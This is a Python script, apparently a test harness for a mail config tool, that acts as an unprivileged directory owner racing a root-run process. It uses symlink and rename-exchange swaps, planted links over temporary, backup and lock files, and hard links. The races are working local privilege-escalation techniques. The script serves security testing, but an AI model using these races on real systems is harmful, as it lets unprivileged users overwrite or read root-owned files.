# Copyright (c) mailops.dms contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The owner of a config directory, without any right beyond it, at work against a run.

He does one thing over and over until his input ends, and writes a byte for each time.
Usage: attacker.py ATTACK DIRECTORY VICTIM
ATTACK is the name of a function below, VICTIM the path of what belongs to root.
"""

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import os
import select
import sys
import time

OWNER = 12345
OWN_LOCK = ".mailops-dms.lock"

_EXCHANGE = 2
_HERE = -100
_renameat2 = ctypes.CDLL(None, use_errno=True).renameat2


def exchange(one: str, other: str) -> None:
    """Let two names in the current directory change places."""
    _renameat2(_HERE, os.fsencode(one), _HERE, os.fsencode(other), _EXCHANGE)


def plant(name: str, target: str) -> None:
    """Put a link in the place of whatever has a name."""
    with contextlib.suppress(OSError):
        os.symlink(target, f"{name}.planted")
        os.rename(f"{name}.planted", name)


def put_back(names: tuple[str, ...], link: str) -> None:
    """Put files in their places again that a run has left the other way round, for it refuses such links from then on."""
    for name in filter(os.path.islink, names):
        if os.path.islink(link):
            os.unlink(name)
        else:
            exchange(name, link)


def files(directory: str, victim: str) -> None:
    """While a run has a temporary file, exchange a file with a link, and back."""
    link, names = "../link", ("postfix-virtual.cf", "postfix-accounts.cf")
    if not os.path.lexists(link):
        os.symlink(victim, link)
    while not any(name.startswith(".mailops-dms-") for name in os.listdir(".")):
        if select.select([sys.stdin], [], [], 0)[0]:
            return
        put_back(names, link)
    for name in names:
        exchange(name, link)
        time.sleep(0.0005)
        exchange(name, link)


def directories(directory: str, victim: str) -> None:
    """Exchange the directory itself with a link to the one of the victim, and back."""
    name = os.path.basename(directory)
    os.chdir("..")
    if not os.path.lexists("link"):
        os.symlink(os.path.dirname(victim), "link")
    exchange(name, "link")
    time.sleep(0.001)
    exchange(name, "link")
    os.chdir(name)
    time.sleep(0.001)


def temporaries(directory: str, victim: str) -> None:
    """Put a link in the place of each temporary file, and of the next one by its name."""
    for name in os.listdir("."):
        if name.startswith(".mailops-dms-"):
            plant(name, victim)


def backups(directory: str, victim: str) -> None:
    """Plant links where the next backups might be written, and in place of the last."""
    for name in os.listdir("."):
        if name.endswith("~"):
            plant(name, victim)
    for later in range(2):
        moment = time.localtime(time.time() + later)
        suffix = time.strftime("%Y-%m-%d@%H:%M:%S~", moment)
        plant(f"postfix-virtual.cf.{os.getppid()}.{suffix}", victim)


def locks(directory: str, victim: str) -> None:
    """Hold a lock until a run waits for it, and then put a link in its place."""
    with contextlib.suppress(OSError), open(OWN_LOCK, "ab") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        time.sleep(0.03)
        plant(OWN_LOCK, victim)
        time.sleep(0.03)
        os.unlink(OWN_LOCK)
    for name in ("check-for-changes.sh.lock", "delmailuser.lock"):
        plant(name, victim)
        time.sleep(0.001)
        with contextlib.suppress(OSError):
            os.unlink(name)


def hard_links(directory: str, victim: str) -> None:
    """Give a file of somebody else the name of a config file and of a temporary one."""
    with contextlib.suppress(OSError):
        os.link("../neighbour", "planted")
    exchange("postfix-regexp.cf", "planted")
    for dummy in range(1000):
        with contextlib.suppress(OSError):
            os.link("postfix-regexp.cf", ".mailops-dms-x.tmp")
            os.unlink(".mailops-dms-x.tmp")
    exchange("postfix-regexp.cf", "planted")
    with contextlib.suppress(OSError):
        os.unlink("planted")


ATTACKS = {each.__name__: each for each in (files, directories, temporaries, backups, locks, hard_links)}


def main() -> None:
    attack, directory, victim = sys.argv[1:]
    os.chdir(directory)
    os.setgroups([])
    os.setgid(OWNER)
    os.setuid(OWNER)
    while not select.select([sys.stdin], [], [], 0)[0]:
        ATTACKS[attack](directory, victim)
        os.write(sys.stdout.fileno(), b".")


if __name__ == "__main__":
    main()
